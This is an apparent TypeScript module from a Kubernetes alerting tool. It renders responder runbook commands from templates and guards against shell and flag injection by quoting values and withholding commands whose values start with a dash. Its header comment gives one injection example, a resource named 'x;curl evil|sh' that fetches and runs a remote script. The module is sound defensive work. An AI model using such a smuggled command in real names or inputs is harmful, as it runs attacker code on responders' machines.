/**
 * Investigation and resolution steps: templates in an AuditDetection, rendered per alert with the
 * real names filled in.
 *
 * Commands are meant to be copied into a shell by a responder, and the values come from the object
 * under suspicion (a ClusterRole may be named `x;curl evil|sh`). So every value substituted into a
 * `command` is shell-quoted when it holds anything but plain name characters, and a template may
 * not put a variable inside quotes, where that quoting would not protect it.
 */

import { printable } from '../subjects/read.js';

/** Variables a step template may use, as `{{name}}`. */
export const TEMPLATE_VARIABLES = [
  'name',
  'namespace',
  'kind',
  'resource',
  'apiVersion',
  'uid',
  'nsFlag',
  'fieldManager',
  'serviceAccount',
  'detection',
  'alert',
  // Traffic alerts (src/traffic/alert.ts): the rule, what the access log said, and the sources.
  'traffic.rule',
  'traffic.reason',
  'traffic.host',
  'traffic.service',
  'traffic.window',
  'traffic.topSources',
  'traffic.sourceRanges',
  'traffic.sourcesPattern',
  'traffic.allowedRanges',
  // Action alerts (src/actions/alert.ts): the request, who made it, and what it carried.
  'action.event',
  'action.user',
  'action.container',
  'action.command',
  'action.ports',
  'action.audiences',
  /** The value of the tripline.dev/action-user label of the user's action alerts. */
  'action.userLabel',
] as const;

/** One of {@link TEMPLATE_VARIABLES}. */
export type TemplateVariable = (typeof TEMPLATE_VARIABLES)[number];

/**
 * Values of the template variables for one alert; a missing value renders as empty. `labels` are
 * the subject's labels, used as `{{labels.KEY}}` (empty when the label is absent).
 */
export type TemplateValues = Partial<Record<TemplateVariable, string>> & {
  labels?: Readonly<Record<string, string>>;
};

/** Other names a variable may be used under, e.g. `{{actor.fieldManager}}`. */
const ALIASES: Readonly<Record<string, TemplateVariable>> = { 'actor.fieldManager': 'fieldManager' };
/** Prefix of the subject-label variables: `{{labels.app.kubernetes.io/name}}`. */
const LABELS_PREFIX = 'labels.';
/** A label key: optional DNS-subdomain prefix and `/`, then a name (checked loosely). */
const LABEL_KEY = /^([A-Za-z0-9]([-A-Za-z0-9.]*[A-Za-z0-9])?\/)?[A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?$/;
/** How the known variables are listed in validation errors. */
const KNOWN_LIST = [...TEMPLATE_VARIABLES, ...Object.keys(ALIASES), `${LABELS_PREFIX}KEY`].join(', ');

/** One step, as a template in a detection and, rendered, in an alert. */
export interface Step {
  title: string;
  detail?: string;
  command?: string;
}

/**
 * Variables whose value is already a shell fragment built by the operator (e.g. `-n team-a`), so it
 * is inserted as is. Their parts are quoted where they are built.
 */
const PREQUOTED: ReadonlySet<string> = new Set<TemplateVariable>(['nsFlag']);
const KNOWN: ReadonlySet<string> = new Set<string>(TEMPLATE_VARIABLES);
const PLACEHOLDER = /\{\{\s*([A-Za-z_][A-Za-z0-9_]*(?:\.[A-Za-z0-9_./-]+)?)\s*\}\}/g;
/** Characters that never need quoting in a POSIX shell word. */
const SHELL_SAFE = /^[A-Za-z0-9_@+:,./-]+$/;

/** `value` as one shell word: unchanged when it is plain, otherwise single-quoted. */
export function shellQuote(value: string): string {
  if (value === '') return "''";
  return SHELL_SAFE.test(value) ? value : `'${value.replaceAll("'", `'\\''`)}'`;
}

/** The `nsFlag` value: `-n NAMESPACE` (quoted when needed), or empty for cluster-scoped subjects. */
export function namespaceFlag(namespace: string | undefined): string {
  return namespace ? `-n ${shellQuote(printable(namespace))}` : '';
}

/**
 * Checks step templates: every `{{variable}}` must be one of {@link TEMPLATE_VARIABLES}, and a
 * command must not place a variable inside single or double quotes. Returns one message per problem.
 */
export function validateTemplates(steps: readonly Step[]): string[] {
  const errors: string[] = [];
  steps.forEach((step, i) => {
    const where = `step ${i + 1} (${JSON.stringify(step.title ?? '')})`;
    for (const field of ['title', 'detail', 'command'] as const) {
      const text = step[field];
      if (typeof text !== 'string') continue;
      for (const m of text.matchAll(PLACEHOLDER)) {
        if (!isKnown(m[1]!)) {
          errors.push(`${where} ${field}: unknown variable {{${m[1]}}}; known: ${KNOWN_LIST}`);
        } else if (field === 'command' && insideQuotes(text, m.index)) {
          errors.push(
            `${where} command: {{${m[1]}}} is inside quotes; values are shell-quoted, leave it bare`,
          );
        }
      }
    }
  });
  return errors;
}

/** True for a variable name a template may use (including aliases and `labels.KEY`). */
function isKnown(name: string): boolean {
  if (name.startsWith(LABELS_PREFIX)) return LABEL_KEY.test(name.slice(LABELS_PREFIX.length));
  return KNOWN.has(name) || Object.hasOwn(ALIASES, name);
}

/** The value of a variable for one alert; undefined when it has none. */
function variableValue(name: string, values: TemplateValues): string | undefined {
  if (name.startsWith(LABELS_PREFIX)) return values.labels?.[name.slice(LABELS_PREFIX.length)];
  const canonical = Object.hasOwn(ALIASES, name) ? ALIASES[name]! : name;
  return KNOWN.has(canonical) ? values[canonical as TemplateVariable] : undefined;
}

/** Whether position `at` of a shell command lies inside a single- or double-quoted string. */
function insideQuotes(command: string, at: number): boolean {
  let quote: "'" | '"' | undefined;
  for (let i = 0; i < at; i++) {
    const c = command[i];
    if (quote === undefined && c === '\\') i++;
    else if (quote === '"' && c === '\\') i++;
    else if (quote === undefined && (c === "'" || c === '"')) quote = c;
    else if (c === quote) quote = undefined;
  }
  return quote !== undefined;
}

/**
 * Fills the variables of each step. Text fields get the printable value; commands get the
 * shell-quoted value, and an empty value swallows one adjacent space (`get pods {{nsFlag}} x`
 * renders `get pods x`). A command whose value starts with `-` is withheld, with a line in `detail`
 * saying why: kubectl would read it as a flag (a ClusterRole may be named `--all`), and quoting
 * cannot prevent that. Templates are validated beforehand, so an unknown variable is left as is.
 * `nsFlag` defaults to {@link namespaceFlag} of `namespace`. With `details: false` the templates'
 * `detail` texts are left out (object alerts carry title and command only, ADR 27); a withheld
 * command's reason is still given, as it is about this alert.
 */
export function renderSteps(
  steps: readonly Step[],
  given: TemplateValues,
  opts: { details?: boolean } = {},
): Step[] {
  const values: TemplateValues = { nsFlag: namespaceFlag(given.namespace), ...given };
  return steps.map((step) => {
    const out: Step = { title: fill(step.title, values, false) };
    if (step.detail !== undefined && opts.details !== false) out.detail = fill(step.detail, values, false);
    if (step.command === undefined) return out;
    const flagLike = flagLikeValue(step.command, values);
    if (flagLike === undefined) {
      out.command = fill(step.command, values, true);
      return out;
    }
    const why = `Command withheld: the value ${JSON.stringify(printable(flagLike))} starts with "-" and kubectl would read it as a flag.`;
    out.detail = out.detail ? `${out.detail}\n${why}` : why;
    return out;
  });
}

/** The first value used by `command` that starts with `-`, if any (pre-quoted fragments excepted). */
function flagLikeValue(command: string, values: TemplateValues): string | undefined {
  for (const m of command.matchAll(PLACEHOLDER)) {
    const value = variableValue(m[1]!, values);
    if (!PREQUOTED.has(m[1]!) && value?.startsWith('-')) return value;
  }
  return undefined;
}

function fill(text: string, values: TemplateValues, shell: boolean): string {
  const pattern = new RegExp(`${PLACEHOLDER.source}( ?)`, 'g');
  return text.replace(pattern, (match: string, name: string, space: string, offset: number) => {
    if (!isKnown(name)) return match;
    const raw = printable(variableValue(name, values) ?? '');
    if (raw === '') return offset === 0 || text[offset - 1] === ' ' ? '' : space;
    const value = shell && !PREQUOTED.has(name) ? shellQuote(raw) : raw;
    return value + space;
  });
}
